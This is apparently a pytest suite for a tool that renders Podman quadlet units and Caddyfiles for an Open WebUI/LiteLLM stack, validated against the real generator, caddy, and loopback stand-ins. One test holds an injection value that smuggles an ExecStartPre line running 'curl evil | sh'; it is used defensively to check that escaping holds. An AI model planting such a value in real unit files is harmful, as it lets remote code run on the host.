"""Every release the suite builds goes through the programs that really read it.

Podman 5's quadlet generator (dry run) must convert every unit without a ``converting`` error and produce
every expected service with its dependencies; ``caddy validate`` must accept the Caddyfile. Both come from
``scripts/install-tools``; without them these tests skip locally and fail in CI.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from leger.lib import hardware
from leger.releases import quadlet
from leger.releases.manifest import build_manifest
from leger.releases.rendering import render
from leger.releases.snapshot import containers, example_snapshot, keeps_path
from leger.releases.validation import QUADLET_SUFFIXES
from tests.releases.conftest import changed, unit_environment
from tests.services import JSONHandler, free_port, serve_in_thread

REPO = Path(__file__).resolve().parents[2]
QUADLET = REPO / ".cache" / "tools" / "podman" / "usr" / "libexec" / "podman" / "quadlet"
RELEASES = [(kind, exposure) for kind in ("minimal", "full") for exposure in ("port", "path", "subdomain")]

pytestmark = pytest.mark.slow


def require(tool: str | None, what: str, *, install: str = "scripts/install-tools") -> str:
    if tool:
        return tool
    message = f"{what} is not installed; run {install}"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


def quadlet_binary() -> str:
    return require(str(QUADLET) if QUADLET.is_file() and os.access(QUADLET, os.X_OK) else None, "Podman's quadlet")


def caddy_binary() -> str:
    return require(shutil.which("caddy"), "caddy")


def write(files: dict[str, str], directory: Path) -> Path:
    for path, text in files.items():
        target = directory / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return directory


def installed_units(files: dict[str, str]) -> dict[str, str]:
    """What the leger CLI copies into ~/.config/containers/systemd/: the unit files, and nothing beside them."""
    return {path: text for path, text in files.items() if path.endswith(QUADLET_SUFFIXES)}


def generate(directory: Path) -> tuple[dict[str, str], list[str]]:
    """The units the generator writes (name → text) and its `converting` errors."""
    result = subprocess.run(
        [quadlet_binary(), "-dryrun", "-user"],
        env={**os.environ, "QUADLET_UNIT_DIRS": str(directory)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    units: dict[str, str] = {}
    name = None
    for line in result.stdout.splitlines():
        if line.startswith("---") and line.endswith("---"):
            name = line.strip("-")
            units[name] = ""
        elif name is not None:
            units[name] += line + "\n"
    return units, [line for line in result.stderr.splitlines() if "converting" in line]


def words(unit: quadlet.UnitFile, key: str) -> set[str]:
    return {word for value in unit.values("Unit", key) for word in value.split()}


@pytest.mark.parametrize(("kind", "exposure"), RELEASES)
def test_podmans_quadlet_generator_accepts_every_release(tmp_path: Path, kind: str, exposure: str) -> None:
    snapshot = example_snapshot(kind, exposure)
    files = render(snapshot)
    # Only the units, as the CLI installs them: a unit that needed a file beside it would break here.
    units, errors = generate(write(installed_units(files), tmp_path))
    assert errors == []
    expected = {quadlet.unit_name(path) for path in files if path.endswith(QUADLET_SUFFIXES)}
    assert set(units) == expected
    for path in (p for p in files if p.endswith(".container")):
        generated = quadlet.parse(units[quadlet.unit_name(path)])
        source = quadlet.parse(files[path])
        # What we asked for survives, and every unit we depend on is one the generator produced.
        assert words(source, "Requires") <= words(generated, "Requires"), path
        assert words(source, "After") <= words(generated, "After"), path
        assert words(generated, "Requires") - {"podman-user-wait-network-online.service"} <= set(units), path
        assert "llm-network.service" in words(generated, "Requires"), path
        (exec_start,) = generated.values("Service", "ExecStart")
        assert "--env-file" not in exec_start and str(tmp_path) not in exec_start, path
    openwebui = quadlet.parse(units["openwebui.service"])
    (exec_start,) = openwebui.values("Service", "ExecStart")
    # Open WebUI's settings are its unit's own Environment= lines, one --env each.
    environment = unit_environment(files["openwebui.container"])
    assert environment["ENABLE_PERSISTENT_CONFIG"] == "False" and environment["WEBUI_NAME"] == "Leger AI"
    for name, value in environment.items():
        assert re.search(rf'--env "?{re.escape(f"{name}={value}")}"?( |$)', exec_start), name
    assert "--secret litellm-openwebui-key,type=env,target=OPENAI_API_KEY" in exec_start
    assert {"openwebui-postgres.service", "openwebui-redis.service", "litellm.service"} <= words(openwebui, "Requires")
    # Each config file is a secret Podman mounts where the program reads it.
    manifest = build_manifest(snapshot, files)
    for secret in (s for s in manifest["secrets"] if s["source"] == "file"):
        (service,) = [s["name"] for s in manifest["services"] if secret["name"] in s["secrets_required"]]
        (exec_start,) = quadlet.parse(units[f"{service}.service"]).values("Service", "ExecStart")
        assert f"--secret {secret['name']},type=mount,target={secret['target']}" in exec_start, service


def test_an_add_ons_companion_runs_before_it_and_only_while_it_is_chosen(tmp_path: Path) -> None:
    """A companion (an add-on's own database or cache) is a unit of its own that its add-on requires, so systemd
    starts it first; Open WebUI never waits for it, and a release without the add-on has no trace of it."""
    from leger.releases.snapshot import service_spec

    snapshot = example_snapshot("full", "port")
    (search,) = [a for a in snapshot["addons"] if a["id"] == "searxng"]
    search["container"]["requires"] = ["searxng-cache-db"]
    search["companions"] = [
        service_spec(
            {
                "id": "searxng-cache-db",
                "name": "Cache of SearXNG",
                "role": "addon",
                "addon": "searxng",
                "image": "docker.io/valkey/valkey:8.1-alpine",
                "port": 6379,
                "volumes": [{"name": "searxng-cache-db", "mount": "/data"}],
            }
        )
    ]
    files = render(snapshot)
    units, errors = generate(write(installed_units(files), tmp_path))
    assert errors == []
    assert {"searxng-cache-db.service", "searxng-cache-db-volume.service"} <= set(units)
    main = quadlet.parse(units["searxng.service"])
    assert "searxng-cache-db.service" in words(main, "Requires") & words(main, "After")
    openwebui = quadlet.parse(units["openwebui.service"])
    assert "searxng-cache-db.service" not in words(openwebui, "Wants") | words(openwebui, "Requires")
    manifest = build_manifest(snapshot, files)
    (companion,) = [s for s in manifest["services"] if s["name"] == "searxng-cache-db"]
    assert "searxng-cache-db.container" in companion["files"]

    snapshot["addons"] = [a for a in snapshot["addons"] if a["id"] != "searxng"]
    snapshot["routes"] = [r for r in snapshot["routes"] if r["service"] != "searxng"]
    assert not any("searxng-cache-db" in path for path in render(snapshot))


# What each accelerator must become on podman's command line, for the services that have a GPU build.
GPU_FLAGS = {
    "nvidia": ["--device nvidia.com/gpu=all", "--security-opt label=disable"],
    "amd-rocm": ["--device /dev/kfd", "--device /dev/dri", "--group-add keep-groups", "--security-opt label=disable"],
    "amd-vulkan": ["--device /dev/dri", "--group-add keep-groups", "--security-opt label=disable"],
    "intel-vulkan": ["--device /dev/dri", "--group-add keep-groups", "--security-opt label=disable"],
    "intel-sycl": ["--device /dev/dri", "--group-add keep-groups", "--security-opt label=disable"],
}


@pytest.mark.parametrize("accelerator", sorted(hardware.ACCELERATORS))
def test_each_hardware_profile_runs_the_gpu_build_with_the_device_podman_expects(
    tmp_path: Path, accelerator: str
) -> None:
    snapshot = example_snapshot("full", "port", accelerator=accelerator)
    files = render(snapshot)
    units, errors = generate(write(installed_units(files), tmp_path))
    assert errors == []
    profile = hardware.ACCELERATORS[accelerator]
    by_id = {service["id"]: service for service in containers(snapshot)}
    manifest = {service["name"]: service for service in build_manifest(snapshot, files)["services"]}
    for sid, service in by_id.items():
        (exec_start,) = quadlet.parse(units[f"{sid}.service"]).values("Service", "ExecStart")
        gpu_build = service["accelerated"].get(profile.backend) if profile.is_gpu else None
        image = gpu_build or service["image"]
        assert exec_start.rstrip().split(" ")[-1] == image or f" {image} " in exec_start, sid
        assert manifest[sid]["image"] == image, sid
        for flag in GPU_FLAGS.get(accelerator, []) if gpu_build else []:
            assert flag in exec_start, (sid, flag)
        # A service without a GPU build gets no device (Caddy disables labels for its own reasons).
        assert ("--device" in exec_start) == bool(gpu_build), sid
        assert ("--group-add" in exec_start) == bool(gpu_build and profile.keep_groups), sid
    llama = yaml.safe_load(files["llama-swap-config.yaml"])
    for model in llama["models"].values():
        # Every layer on the GPU when there is one; llama-server's default is the CPU build's.
        assert ("--n-gpu-layers 999" in model["cmd"]) == profile.is_gpu
    if profile.is_gpu:
        assert by_id["llama-swap"]["accelerated"].get(profile.backend), f"llama-swap has no {profile.backend} build"


@pytest.mark.parametrize(("kind", "exposure"), RELEASES)
def test_caddy_validates_every_caddyfile(tmp_path: Path, kind: str, exposure: str) -> None:
    files = render(example_snapshot(kind, exposure))
    config = write(files, tmp_path) / "Caddyfile"
    result = subprocess.run(
        [caddy_binary(), "validate", "--adapter", "caddyfile", "--config", str(config)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "Valid configuration" in result.stdout + result.stderr


def test_hostile_values_stay_values_for_the_real_generator(tmp_path: Path) -> None:
    evil = 'x"\n[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n%h $HOME'
    snapshot = changed(
        example_snapshot("minimal"),
        lambda s: (s["release"].update(name=evil), s["openwebui"].update(WEBUI_NAME=evil)),
    )
    units, errors = generate(write(installed_units(render(snapshot)), tmp_path))
    assert errors == []
    for name, text in units.items():
        assert not list(quadlet.parse(text).entries("Service", "ExecStartPre")), name
    (exec_start,) = quadlet.parse(units["openwebui.service"]).values("Service", "ExecStart")
    # systemd turns %% back into % and $$ into $ when it runs the command.
    assert '--env "WEBUI_NAME=x\\"\\n[Service]\\nExecStartPre=' in exec_start
    assert "%%h $$HOME" in exec_start


@pytest.mark.parametrize(
    ("suffix", "section", "keys"),
    [
        (".container", "Container", quadlet.CONTAINER_KEYS),
        (".network", "Network", quadlet.NETWORK_KEYS),
        (".volume", "Volume", quadlet.VOLUME_KEYS),
    ],
)
def test_every_key_our_validator_allows_is_one_the_generator_knows(tmp_path: Path, suffix, section, keys) -> None:
    for key in sorted(keys):
        image = "Image=docker.io/library/alpine:3.20\n" if suffix == ".container" and key != "Image" else ""
        (tmp_path / f"k-{key.lower()}{suffix}").write_text(f"[{section}]\n{image}{key}=x\n")
    _, errors = generate(tmp_path)
    assert [line for line in errors if "unsupported key" in line] == []


def test_no_release_publishes_a_port_on_every_interface_or_the_lan() -> None:
    """Every published port of every release the suite renders (each kind, each exposure mode) listens on the
    machine's Tailscale address or on loopback, never 0.0.0.0, :: or a LAN address."""
    import ipaddress

    tailnet = ipaddress.ip_network("100.64.0.0/10")
    seen = 0
    for kind, exposure in RELEASES:
        snapshot = example_snapshot(kind, exposure)
        for path, text in render(snapshot).items():
            if not path.endswith(".container"):
                continue
            for value in quadlet.parse(text).values("Container", "PublishPort"):
                host, _, _ = value.rpartition(":")
                address = host.rpartition(":")[0] if host.count(":") == 1 else ""
                assert address, f"{kind}/{exposure} {path}: PublishPort={value} names no address, so every one"
                ip = ipaddress.ip_address(address)
                assert ip.is_loopback or ip in tailnet, f"{kind}/{exposure} {path}: PublishPort={value}"
                seen += 1
    assert seen >= 12, "no release published a port: the check above proved nothing"


def _systemd_command(line: str) -> list[str]:
    """The words systemd runs for a command line of a unit: quotes and C escapes undone (the project's reader of
    systemd's syntax), ``$$`` a literal ``$``, ``%%`` a ``%``."""
    return [re.sub(r"%%|\$\$", lambda m: m.group()[0], word) for word in quadlet.split_words(line.removeprefix("-"))]


class _KeyedStandIn:
    """A loopback stand-in for a service that, like Speaches 0.8.3 with API_KEY set, answers every route only
    with ``Authorization: Bearer <key>`` (403 otherwise), and records what it was asked."""

    def __init__(self, key: str) -> None:
        stand_in = self
        self.requests: list[tuple[str, str, int]] = []

        class Handler(JSONHandler):
            def _keyed(self) -> None:
                status = 200 if self.headers.get("Authorization") == f"Bearer {key}" else 403
                stand_in.requests.append((self.command, self.path, status))
                self.answer(status, {})

            do_GET = do_POST = _keyed

        self.server = serve_in_thread(Handler)
        self.port = self.server.server_address[1]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_speaches_checks_its_health_and_fetches_the_chosen_model_with_its_own_key(tmp_path: Path) -> None:
    """Speaches 0.8 downloads no model by itself (POST /v1/models/{id} does), so transcription would fail until
    someone fetched one by hand: the unit fetches the model Open WebUI will ask for, detached, once it runs.
    With its own key set (API_KEY), Speaches 0.8.3 checks it on every route, /health and downloads included:
    the commands the generated units run, shell and systemd escaping included, carry the key from the
    container's environment, and the key itself is never written into a file."""
    snapshot = example_snapshot("full", "port")
    (addon,) = [a for a in snapshot["addons"] if a["id"] == "whisper"]
    model = addon["variables"]["AUDIO_STT_MODEL"]
    files = render(snapshot)
    units, errors = generate(write(installed_units(files), tmp_path))
    assert errors == []
    service = quadlet.parse(units["whisper.service"])
    (post,) = service.values("Service", "ExecStartPost")
    words = _systemd_command(post)
    assert words[:4] == ["/usr/bin/podman", "exec", "--detach", "whisper"]
    assert words[4:6] == ["sh", "-c"]
    (start,) = service.values("Service", "ExecStart")
    run = _systemd_command(start)
    health = run[run.index("--health-cmd") + 1]
    assert "Secret=whisper-api-key,type=env,target=API_KEY" in files["whisper.container"]
    assert "Secret=whisper-api-key,type=env,target=AUDIO_STT_OPENAI_API_KEY" in files["openwebui.container"]

    key = "sk-the-speaches-key"
    stand_in = _KeyedStandIn(key)
    try:
        local = {"PATH": os.environ["PATH"], "API_KEY": key}
        for script in (health, words[6]):
            script = script.replace("127.0.0.1:8000", f"127.0.0.1:{stand_in.port}")
            subprocess.run(["sh", "-c", script], env=local, check=True, timeout=30, capture_output=True)
        without_key = subprocess.run(
            ["sh", "-c", health.replace("127.0.0.1:8000", f"127.0.0.1:{stand_in.port}")],
            env={"PATH": os.environ["PATH"], "API_KEY": "wrong"},
            timeout=30,
            capture_output=True,
        )
    finally:
        stand_in.close()
    assert stand_in.requests[:2] == [("GET", "/health", 200), ("POST", f"/v1/models/{model}", 200)]
    assert without_key.returncode != 0, "a health check that passes without the key proves nothing"
    assert unit_environment(files["openwebui.container"])["AUDIO_STT_MODEL"] == model
    assert key not in "".join(files.values())


class _LiteLLMKeys:
    """A loopback stand-in for LiteLLM's key API as its code (litellm/proxy/management_endpoints/
    key_management_endpoints.py, 1.110.2) answers it with a database: only the master key may ask; GET /key/info
    answers 200 for a key it holds; POST /key/generate takes a caller-chosen key that starts with "sk-", once."""

    def __init__(self, master: str) -> None:
        from urllib.parse import parse_qs, urlsplit

        stand_in = self
        self.keys: dict[str, dict] = {}
        self.calls: list[tuple[str, str, int]] = []

        class Handler(JSONHandler):
            def _answer(self, status: int, body: dict) -> None:
                stand_in.calls.append((self.command, urlsplit(self.path).path, status))
                self.answer(status, body)

            def do_GET(self) -> None:
                if self.headers.get("Authorization") != f"Bearer {master}":
                    return self._answer(401, {"error": "Authentication Error"})
                key = parse_qs(urlsplit(self.path).query).get("key", [""])[0]
                if key in stand_in.keys:
                    return self._answer(200, {"key": key, "info": stand_in.keys[key]})
                return self._answer(404, {"detail": "Key not found"})

            def do_POST(self) -> None:
                if self.headers.get("Authorization") != f"Bearer {master}":
                    return self._answer(401, {"error": "Authentication Error"})
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                key = body.get("key", "")
                if not key.startswith("sk-"):
                    return self._answer(400, {"error": "Key must start with 'sk-'"})
                if key in stand_in.keys:
                    return self._answer(400, {"error": "Unique constraint failed on the fields: (`token`)"})
                stand_in.keys[key] = {k: v for k, v in body.items() if k != "key"}
                return self._answer(200, {"key": key})

        self.server = serve_in_thread(Handler)
        self.port = self.server.server_address[1]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_open_webui_calls_litellm_with_a_virtual_key_of_its_own_which_litellm_registers_once_it_runs(
    tmp_path: Path,
) -> None:
    """Not LiteLLM's master key: Open WebUI gets its own, and the LiteLLM unit, once LiteLLM runs, registers it
    as a virtual key through LiteLLM's API (detached, retried until LiteLLM answers); a key already registered is
    left alone, so every restart is a no-op. The command the generated unit runs is run here, systemd's and
    Python's quoting included, against a stand-in of LiteLLM's key API (LiteLLM's database layer, Prisma, fetches
    its engines from the internet, which this machine cannot reach)."""
    import sys

    snapshot = example_snapshot("minimal", "port")
    files = render(snapshot)
    units, errors = generate(write(installed_units(files), tmp_path))
    assert errors == []
    assert "Secret=litellm-openwebui-key,type=env,target=OPENAI_API_KEY" in files["openwebui.container"]
    assert "target=OPENAI_API_KEY" not in files["openwebui.container"].split("litellm-openwebui-key")[0]
    assert "Secret=litellm-openwebui-key,type=env,target=LEGER_OPENWEBUI_KEY" in files["litellm.container"]
    (post,) = quadlet.parse(units["litellm.service"]).values("Service", "ExecStartPost")
    words = _systemd_command(post)
    assert words[:6] == ["/usr/bin/podman", "exec", "--detach", "litellm", "python3", "-c"]
    script = words[6]

    master, own = "sk-the-master-key", "sk-open-webuis-own-key"
    stand_in = _LiteLLMKeys(master)
    try:
        environment = {"PATH": os.environ["PATH"], "LITELLM_MASTER_KEY": master, "LEGER_OPENWEBUI_KEY": own}
        pointed = script.replace("127.0.0.1:4000", f"127.0.0.1:{stand_in.port}")
        assert pointed != script
        for _ in range(2):  # the first start registers it, a restart finds it
            subprocess.run([sys.executable, "-c", pointed], env=environment, check=True, timeout=30)
    finally:
        stand_in.close()
    assert stand_in.keys == {own: {"key_alias": "open-webui", "metadata": {"managed_by": "leger"}}}
    assert stand_in.calls == [
        ("GET", "/key/info", 404),
        ("POST", "/key/generate", 200),
        ("GET", "/key/info", 200),
    ]
    assert master not in "".join(files.values()) and own not in "".join(files.values())


def _self_signed(directory: Path) -> tuple[Path, Path]:
    """A certificate and key for a stand-in that, like Cockpit, serves HTTPS with its own certificate."""
    import datetime as dt

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "stand-in")])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = directory / "standin.crt", directory / "standin.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return cert_path, key_path


def _stand_ins(services: list[dict], directory: Path) -> tuple[dict[str, int], list]:
    """One loopback server per routed service, answering with its id and the path and host it was asked for."""
    import json
    import ssl
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    ports: dict[str, int] = {}
    servers = []
    cert, key = _self_signed(directory)
    for service in services:

        class Handler(BaseHTTPRequestHandler):
            sid = service["id"]

            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                body = json.dumps({"service": self.sid, "path": self.path, "host": self.headers["Host"]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        if service["upstream_tls"]:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        ports[service["id"]] = server.server_address[1]
        servers.append(server)
    return ports, servers


@pytest.mark.parametrize("exposure", ["port", "path", "subdomain"])
def test_caddy_runs_the_release_caddyfile_and_proxies_each_route_to_its_service(tmp_path: Path, exposure: str) -> None:
    """`caddy run` with the release's Caddyfile, changed only to listen on loopback over plain HTTP (no
    certificate to obtain) and to send each upstream to a loopback stand-in of its service: every exposed
    route reaches its own service, with the path that service is asked for (path exposure strips the prefix),
    HTTPS upstreams (Cockpit) included; anything else reaches Open WebUI or a 404."""
    import time

    import httpx

    from leger.releases.rendering import route_host

    snapshot = example_snapshot("full", exposure)
    caddyfile = render(snapshot)["Caddyfile"]
    by_id = {service["id"]: service for service in containers(snapshot)}
    routes = [route for route in snapshot["routes"] if route["exposed"]]
    ports, servers = _stand_ins([by_id[route["service"]] for route in routes], tmp_path)
    listen: dict[int, int] = {}  # the release's port -> the loopback port it listens on in the test

    def site(match: re.Match[str]) -> str:
        host, port = match.group(1), int(match.group(2) or 443)
        listen.setdefault(port, free_port())
        return f"http://{host}:{listen[port]} {{"

    adapted = re.sub(r"^https://([a-z0-9.-]+)(?::(\d+))? \{$", site, caddyfile, flags=re.M)
    adapted = re.sub(
        r"reverse_proxy (https://)?([a-z][a-z0-9-]*):\d+",
        lambda m: f"reverse_proxy {m.group(1) or ''}127.0.0.1:{ports[m.group(2)]}",
        adapted,
    )
    adapted = adapted.replace("{\n\tauto_https disable_redirects\n}", "{\n\tadmin off\n\tauto_https off\n}", 1)
    if "auto_https off" not in adapted:
        adapted = "{\n\tadmin off\n\tauto_https off\n}\n" + adapted
    assert listen and all(port in adapted for port in map(str, ports.values()))
    (tmp_path / "Caddyfile").write_text(adapted)
    process = subprocess.Popen(
        [caddy_binary(), "run", "--config", str(tmp_path / "Caddyfile"), "--adapter", "caddyfile"],
        env={**os.environ, "HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:

        def get(host: str, port: int, path: str) -> httpx.Response:
            deadline = time.monotonic() + 20
            while True:
                try:
                    return httpx.get(f"http://127.0.0.1:{listen[port]}{path}", headers={"Host": host}, timeout=5)
                except httpx.ConnectError:
                    assert process.poll() is None, process.communicate()[0]
                    assert time.monotonic() < deadline, "caddy never listened"
                    time.sleep(0.2)

        for route in routes:
            host = route_host(snapshot, route)
            if exposure == "port":
                answer, sent = get(host, route["port"], "/probe?q=1"), "/probe?q=1"
            elif exposure == "path" and route["path"] != "/":
                # Stripped, unless the service was told its path (Cockpit's UrlRoot, LiteLLM's root path, ...).
                kept = route["path"] if keeps_path(by_id[route["service"]]) else ""
                answer, sent = get(host, 443, f"{route['path']}/probe?q=1"), f"{kept}/probe?q=1"
                # The bare prefix redirects to the prefix with a slash.
                bare = get(host, 443, route["path"])
                assert bare.status_code in (301, 302, 307, 308) and bare.headers["Location"] == f"{route['path']}/"
            else:
                answer, sent = get(host, 443, "/probe?q=1"), "/probe?q=1"
            assert answer.status_code == 200, (route["service"], answer.text)
            seen = answer.json()
            assert (seen["service"], seen["path"]) == (route["service"], sent), route
            assert seen["host"].split(":")[0] == host, "the service sees the name the user typed"
        if exposure == "path":
            other = get(f"{snapshot['tailnet']['machine']}.{snapshot['tailnet']['domain']}", 443, "/elsewhere")
            assert other.json()["service"] == "openwebui"
        else:
            unknown = get("someone-else.example", next(iter(listen)), "/")
            assert unknown.status_code in (200, 404) and "service" not in unknown.text
    finally:
        process.terminate()
        process.wait(timeout=10)
        for server in servers:
            server.shutdown()
